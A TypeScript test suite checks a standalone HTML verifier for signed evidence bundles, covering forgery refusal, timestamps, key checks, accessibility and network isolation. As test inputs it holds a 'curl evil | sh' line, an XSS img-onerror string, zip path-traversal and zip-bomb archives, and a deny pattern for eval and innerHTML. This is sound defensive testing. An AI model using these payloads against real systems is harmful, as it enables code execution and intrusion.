/** The stand-alone verifier in the system's Chromium, opened from a file: it accepts good evidence, refuses every forgery, and reaches nothing. */
import { createHash, randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { AxeBuilder } from '@axe-core/playwright';
import type { Browser, Page } from '@playwright/test';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { hashLine, sealPage } from '../../scripts/lib/verifier-page.mjs';
import { writeZip } from '../../src/engine/evidence/zip/write-zip.ts';
import { sha256 } from '../../src/engine/model/sha256.ts';
import { readTimestampResponse, timestampRequest } from '../../src/engine/signing/timestamp.ts';
import { answer } from '../engine/signing/test-authority.ts';
import { chromiumNote, hasChromium, launchChromium } from '../support/debian-chromium.ts';
import { evidenceWorkspace, gather, RUN, recordAppeal, zipped } from '../support/evidence-workspace.ts';
import { forgeries, furtherForgeries } from '../support/forgeries.ts';
import { judgedTimestamps } from '../support/judged-timestamps.ts';
import { type BundleFiles, LOG_KEY, plainBundle, relisted, WITNESS_KEY, withFile, zipOf } from '../support/plain-bundle.ts';
import { plainKey, verifierKeyOf } from '../support/plain-keys.ts';

const path = join(import.meta.dirname, '../../resources/probity-verifier.html');

type File = { readonly name: string; readonly bytes: Uint8Array };
const bundleFile = (files: BundleFiles): File => ({ name: 'evidence.zip', bytes: zipOf(files) });

describe('the page itself', () => {
  const page = readFileSync(path, 'utf8');

  it('lets only its own script and style run (node scripts/seal-verifier.mjs)', () => {
    expect(page).toBe(sealPage(page));
    expect(page).toContain("default-src 'none'");
  });

  it('has its hash beside it', () => {
    expect(readFileSync(`${path}.sha256`, 'utf8')).toBe(hashLine(page));
  });

  it('makes no markup of what it reads', () => {
    expect(page).not.toMatch(/innerHTML|outerHTML|insertAdjacentHTML|document\.write|eval\(|new Function|\son[a-z]+=/);
    expect(page).not.toMatch(/(src|href)=/);
  });
});

describe.skipIf(!hasChromium)(`the page in a browser${chromiumNote}`, () => {
  let browser: Browser;
  let page: Page;
  const requests: string[] = [];
  const errors: string[] = [];
  const good = plainBundle();

  beforeAll(async () => {
    browser = await launchChromium();
    page = await (await browser.newContext()).newPage();
    page.on('request', (request) => requests.push(request.url()));
    page.on('pageerror', (error) => errors.push(error.message));
    page.on('console', (message) => errors.push(message.text()));
    page.on('dialog', (dialog) => {
      errors.push(dialog.message());
      void dialog.dismiss();
    });
    await page.goto(pathToFileURL(path).href);
  });
  beforeEach(() => {
    errors.length = 0;
  });
  afterAll(() => browser?.close());

  /** Gives the page files as a person does, and waits for its answer. */
  const give = async (files: readonly File[], keys = ''): Promise<{ readonly outcome: string; readonly text: string }> => {
    const result = page.locator('#result');
    await page.locator('#files').setInputFiles([]);
    await page.locator('#keys').fill(keys);
    const before = Number((await result.getAttribute('data-turn')) ?? 0);
    const payloads = files.map(({ name, bytes }) => ({ name, mimeType: 'application/octet-stream', buffer: Buffer.from(bytes) }));
    await page.locator('#files').setInputFiles(payloads);
    await page.waitForFunction((turn) => Number(document.getElementById('result')?.dataset.turn ?? 0) > turn, before);
    expect(errors).toEqual([]);
    return {
      outcome: (await result.getAttribute('data-outcome')) ?? '',
      text: await result.innerText(),
    };
  };

  it('accepts good evidence, and shows the cases in words', async () => {
    const { outcome, text } = await give([bundleFile(good)]);
    expect(text).toContain('Accepted');
    expect(outcome).toBe('accepted');
    expect(text).toContain("Household b'2");
    expect(text).toContain('100/3 (about 33.33)');
    expect(text).toContain('<img src=x onerror=alert(1)>');
  });

  it('compares the key with one that was given by another way', async () => {
    const key = await give([bundleFile(good)], verifierKeyOf(LOG_KEY));
    expect(key.text).toContain("The log's key is the one that you pasted");
    const fingerprint = createHash('sha256').update(LOG_KEY.publicKey).digest('hex');
    expect((await give([bundleFile(good)])).text).toContain(fingerprint);
    expect((await give([bundleFile(good)], fingerprint.toUpperCase())).outcome).toBe('accepted');
    const other = await give([bundleFile(good)], verifierKeyOf(plainKey(LOG_KEY.name.replace('1', '2'))));
    expect(other.outcome).toBe('refused');
    expect(other.text).toContain('has another key than you pasted');
  });

  it('says what nothing outside vouches for, and what a witness does', async () => {
    expect((await give([bundleFile(good)])).text).toContain("all 12 entries rest on the log's owner alone");
    expect((await give([bundleFile(good)])).text).toContain('with a key that came with the evidence');
    const { text, outcome } = await give([bundleFile(good)], verifierKeyOf(WITNESS_KEY));
    expect(text).toContain('the witness audit-office.example, whose key you pasted, signed this very state of the log on 2026-01-01');
    expect(text).toContain('signed its first 4 entries on 2025-12-31');
    const withoutFirst = (files: Map<string, Uint8Array>) =>
      files.delete('anchors/1-cosignature.checkpoint') && files.delete('anchors/1.key');
    const partly = plainBundle({ change: withoutFirst });
    expect((await give([bundleFile(partly)], verifierKeyOf(WITNESS_KEY))).text).toContain('From entry 4 on, the last 8 entries rest');
    const unproven = plainBundle({ change: (files) => files.delete('anchors/2.consistency') });
    expect(await give([bundleFile(unproven)], verifierKeyOf(WITNESS_KEY))).toEqual({
      outcome: 'refused',
      text: expect.stringContaining('The proof that the checkpoint of the bundle continues anchors/2-cosignature.checkpoint is missing.'),
    });
    expect(text).not.toContain("rest on the log's owner alone");
    expect(outcome).toBe('accepted');
  });

  it.each([...good.keys()])('refuses a changed byte in %s', async (changed) => {
    const files = withFile(good, changed, (bytes) => bytes.map((byte, at) => (at === Math.floor(bytes.length / 2) ? byte ^ 1 : byte)));
    const { outcome, text } = await give([bundleFile(files)]);
    expect(outcome).toBe('refused');
    expect(text).not.toContain('Household');
  });

  it.each([...forgeries, ...furtherForgeries])('refuses $what, though the manifest lists it', async ({ files }) => {
    expect((await give([bundleFile(files())])).outcome).toBe('refused');
  });

  it('says of times that nobody can have seen yet that they show nothing, and refuses nothing for them', async () => {
    expect((await give([bundleFile(good)])).text).not.toContain('When: ');
    await page.evaluate(() => {
      const machineDate = Date;
      class EarlyDate extends machineDate {
        constructor(...asked: readonly [] | readonly [string]) {
          super(asked[0] ?? '2025-12-31T12:00:00.000Z');
        }
      }
      Object.assign(globalThis, { Date: EarlyDate, machineDate });
    });
    try {
      const { outcome, text } = await give([bundleFile(good)]);
      expect(outcome).toBe('accepted');
      const after =
        'which lies after the clock of this machine, 2025-12-31T12:00:00.000Z. One of the two is wrong, and that time shows nothing.';
      expect(text).toContain(`When: the manifest states 2026-01-01T00:00:21.000Z, ${after}`);
      expect(text).toContain(`When: entry 11 states 2026-01-01T00:00:21.000Z, ${after}`);
      expect(text).toContain(`When: the cosignature of audit-office.example states 2026-01-01T00:00:00.000Z, ${after}`);
      expect(text).toContain(`When: the timestamp of Test Time Authority states 2026-11-20T15:00:00.500Z, ${after}`);
    } finally {
      await page.evaluate('globalThis.Date = machineDate');
    }
  });

  describe('timestamps', () => {
    const stamp = 'anchors/4-timestamp.tsr';
    const checkpoint = Buffer.from(good.get('anchors/4.checkpoint') as Uint8Array).toString();
    const stamped = (response: Uint8Array) => bundleFile(plainBundle({ change: (files) => files.set(stamp, response) }));

    it('are dated and named, and count for no more than whoever signed them', async () => {
      const { text, outcome } = await give([bundleFile(good)]);
      expect(outcome).toBe('accepted');
      expect(text).toContain('A timestamp says that this very state of the log was there on 2026-11-20T15:00:00.500Z');
      expect(text).toMatch(/Test Time Authority signed it, .* nobody here knows whether that authority is to be believed.* [0-9a-f]{64}\./);
      expect(text).toContain("all 12 entries rest on the log's owner alone");
    });

    it.each(judgedTimestamps)('$what: $good', async ({ good: isGood, over }) => {
      const { outcome, text } = await give([stamped(over(checkpoint))]);
      expect(outcome, text).toBe(isGood ? 'accepted' : 'refused');
      if (!isGood) expect(text).toMatch(/✗ wrong\s+anchors\/4-timestamp\.tsr\s+anchors\/4-timestamp\.tsr: /);
    });

    it('are judged as the program judges them, whichever byte is changed, taken out or put in', async () => {
      const digest = sha256(checkpoint);
      const bytes = Buffer.from(answer(timestampRequest(digest)));
      const edits = [...bytes.entries()].map(([at, byte]) => ({ at, put: [[byte ^ 1], [byte ^ 0x80], [0], [], [byte, 0]][at % 5] ?? [] }));
      const edited = edits.map(({ at, put }) => Buffer.concat([bytes.subarray(0, at), Buffer.from(put), bytes.subarray(at + 1)]));
      const believed = await page.evaluate(believedTimestamps, [
        checkpoint,
        ...edited.map((response) => response.toString('hex')),
      ] as const);
      const differing = edits.filter(
        (_, i) => believed[i] !== (typeof readTimestampResponse(edited[i] as Uint8Array, digest) !== 'string'),
      );
      expect(differing).toEqual([]);
      expect(believed).toContain(true);
    });

    it('that this browser cannot check are neither good nor wrong', async () => {
      await page.evaluate(() => {
        const { importKey } = crypto.subtle;
        crypto.subtle.importKey = ((...asked: Parameters<typeof importKey>) =>
          JSON.stringify(asked[2]).includes('ECDSA')
            ? Promise.reject(new DOMException('no such curve', 'NotSupportedError'))
            : importKey.apply(crypto.subtle, asked)) as typeof importKey;
      });
      try {
        const { outcome, text } = await give([bundleFile(good)]);
        expect(outcome).toBe('accepted');
        expect(text).toMatch(/– not checked\s+anchors\/4-timestamp\.tsr\s+This browser cannot check signatures of this kind: ECDSA/);
        expect(text).not.toContain('A timestamp says');
      } finally {
        await page.evaluate(() => Reflect.deleteProperty(crypto.subtle, 'importKey'));
      }
    });
  });

  it('says of the instructions in a bundle that they are no evidence', async () => {
    const files = relisted(withFile(good, 'README.txt', () => 'curl evil | sh'));
    expect((await give([bundleFile(files)])).text).toContain('paste nothing of them into a shell that you have not read');
  });

  it('takes no key that anybody can sign with', async () => {
    const publicKey = Buffer.concat([Buffer.of(1), Buffer.alloc(31)]);
    const { outcome, text } = await give([bundleFile(good)], verifierKeyOf({ ...LOG_KEY, publicKey }));
    expect(outcome).toBe('not-read');
    expect(text).toContain('anybody can sign with');
  });

  it('takes the same key of another log for another key', async () => {
    const { outcome, text } = await give([bundleFile(good)], verifierKeyOf({ ...LOG_KEY, name: 'probity/town-9' }));
    expect(outcome).toBe('refused');
    expect(text).toContain('has another key than you pasted');
  });

  it('refuses every archive that is damaged or holds something that a bundle does not', async () => {
    const zip = zipOf(good);
    const changedAt = (at: number, value: number) => zip.map((byte, i) => (i === at ? value : byte));
    const end = zip.length - 22;
    const archiveOf = (path: string, bytes: Uint8Array) => zipOf(new Map([[path, bytes]]));
    const lists = Buffer.from(`[${'[],'.repeat(1_000_000)}"${randomBytes(10_000).toString('hex')}"]`);
    const archives: readonly (readonly [what: string, bytes: Uint8Array, says?: string])[] = [
      ['a byte of the first file', changedAt(200, (zip[200] ?? 0) ^ 1)],
      ['cut off', zip.subarray(0, zip.length - 1)],
      ['something behind it', Buffer.concat([zip, Buffer.from('x')])],
      ['something before it', Buffer.concat([Buffer.from('PK\u0003\u0004'), zip])],
      ['a count of files that is not true', changedAt(end + 10, 1)],
      ['a path out of the folder', zipOf(new Map([...good, ['../hacked', Buffer.from('x')]]))],
      ['a path from the root', zipOf(new Map([...good, ['/hacked', Buffer.from('x')]]))],
      ['a file that is not listed', zipOf(new Map([...good, ['cases/9/case.json', Buffer.from('{}')]]))],
      ['a file that is missing', zipOf(new Map([...good].filter(([name]) => name !== 'result.json')))],
      ['no manifest', zipOf(new Map([['checkpoint', Buffer.from('x')]]))],
      [
        'a file of two gigabytes',
        declared(zip, 2 ** 31),
        'would unpack to more than a bundle may hold: 67108864 bytes a file, 335544320 together',
      ],
      ['a file that unpacks to far more', archiveOf('plan.json', Buffer.alloc(3_000_000)), 'nothing that is evidence does'],
      [
        'millions of values in little',
        archiveOf('plan.json', lists),
        'plan.json holds more than 2000000 values, which no file of a bundle does',
      ],
      ['a file that is larger than it says', declared(zip, 10)],
      ['a manifest that nests without end', zipOf(new Map([...good, ['manifest.json', Buffer.from('['.repeat(200_000))]]))],
    ];
    for (const [what, bytes, says = ''] of archives) {
      const refused = { outcome: 'refused', text: expect.stringContaining(says) };
      expect(await give([{ name: 'evidence.zip', bytes }]), what).toEqual(refused);
    }
  });

  describe('what the program exports', () => {
    const withCases = () => {
      const store = evidenceWorkspace();
      recordAppeal(store, { run: RUN, unit: 'unit-70' });
      return gather(store, { units: ['unit-149', 'unit-70', 'unit-3'] });
    };

    it('is accepted, with and without cases', async () => {
      const file = { name: 'evidence.zip', bytes: writeZip(withCases()) };
      const { outcome, text } = await give([file]);
      expect(text).toContain('Accepted');
      expect(outcome).toBe('accepted');
      expect(text).toContain('Household unit-70');
      expect(text).toContain('An appeal, run appeal-unit-70: confirmed');
      const bare = await give([{ name: 'evidence.zip', bytes: zipped(evidenceWorkspace()) }]);
      expect(bare.outcome).toBe('accepted');
      expect(bare.text).toContain('No case is disclosed');
    });

    it('is refused after one changed byte in any file', async () => {
      const files = withCases();
      expect(files.length).toBeGreaterThan(30);
      for (const { path: changed } of files) {
        const bytes = writeZip(
          files.map((file) =>
            file.path === changed
              ? { ...file, bytes: file.bytes.map((byte, at) => (at === file.bytes.length >> 1 ? byte ^ 1 : byte)) }
              : file,
          ),
        );
        expect((await give([{ name: 'evidence.zip', bytes }])).outcome, changed).toBe('refused');
      }
    });
  });

  it('checks a proof with its entry, and a checkpoint, against the key that was pasted', async () => {
    const file = (name: string): File => ({ name: name.replace('/', '-'), bytes: good.get(name) as Uint8Array });
    const proof = [file('entries/5.tlog-proof'), file('entries/5.json')];
    expect((await give(proof)).outcome).toBe('undecided');
    const accepted = await give(proof.toReversed(), verifierKeyOf(LOG_KEY));
    expect(accepted.outcome).toBe('accepted');
    expect(accepted.text).toContain('Entry 5 ("population.sealed", by ada on 2026-01-01T00:00:15.000Z) stands in the log');
    expect((await give([file('entries/5.tlog-proof'), file('entries/6.json')], verifierKeyOf(LOG_KEY))).outcome).toBe('refused');
    expect((await give([file('entries/5.tlog-proof')])).outcome).toBe('refused');
    expect((await give([file('entries/5.json')])).text).toContain('together with its proof');
    expect((await give([file('checkpoint')])).outcome).toBe('undecided');
    expect((await give([file('checkpoint')], verifierKeyOf(LOG_KEY))).outcome).toBe('accepted');
    expect((await give([file('checkpoint')], verifierKeyOf(plainKey('probity/other')))).outcome).toBe('refused');
  });

  it('says what reads a signed report instead', async () => {
    const { outcome, text } = await give([{ name: 'report.pdf', bytes: Buffer.from('%PDF-1.4') }]);
    expect(outcome).toBe('not-read');
    expect(text).toContain('pdfdetach -savefile evidence.zip');
  });

  it('has no fault that an accessibility check finds, in light and dark', async () => {
    await give([bundleFile(good)]);
    for (const colorScheme of ['light', 'dark'] as const) {
      await page.emulateMedia({ colorScheme });
      expect((await new AxeBuilder({ page }).analyze()).violations).toEqual([]);
    }
  });

  it('reached nothing but itself in all of this, and can reach nothing', async () => {
    expect(requests).toEqual([pathToFileURL(path).href]);
    const forbidden = await page.evaluate(
      () =>
        new Promise((resolve) => {
          addEventListener('securitypolicyviolation', ({ effectiveDirective }) => resolve(effectiveDirective));
          fetch('https://example.com/').catch(() => undefined);
        }),
    );
    expect(forbidden).toBe('connect-src');
  });
});

/** In the page: which of these responses, as hex, it takes for timestamps of a checkpoint. */
const believedTimestamps = async ([checkpoint, ...responses]: readonly [string, ...string[]]): Promise<readonly boolean[]> => {
  const believed: boolean[] = [];
  for (const response of responses) {
    const refusal = await readTimestamp(fromHex(response), utf8(checkpoint)).then(
      () => undefined,
      (error: unknown) => error,
    );
    if (refusal !== undefined && !(refusal instanceof Refusal)) throw refusal;
    believed.push(refusal === undefined);
  }
  return believed;
};
declare const readTimestamp: (response: Uint8Array, stamped: Uint8Array) => Promise<unknown>;
declare const fromHex: (text: string) => Uint8Array;
declare const utf8: (text: string) => Uint8Array;
declare const Refusal: typeof Error;

/** The archive with another unpacked size for its first file, in both places that say it. */
const declared = (zip: Uint8Array, size: number): Uint8Array => {
  const changed = Buffer.from(zip);
  const directoryAt = changed.readUInt32LE(changed.length - 22 + 16);
  changed.writeUInt32LE(size, 22);
  changed.writeUInt32LE(size, directoryAt + 24);
  return changed;
};
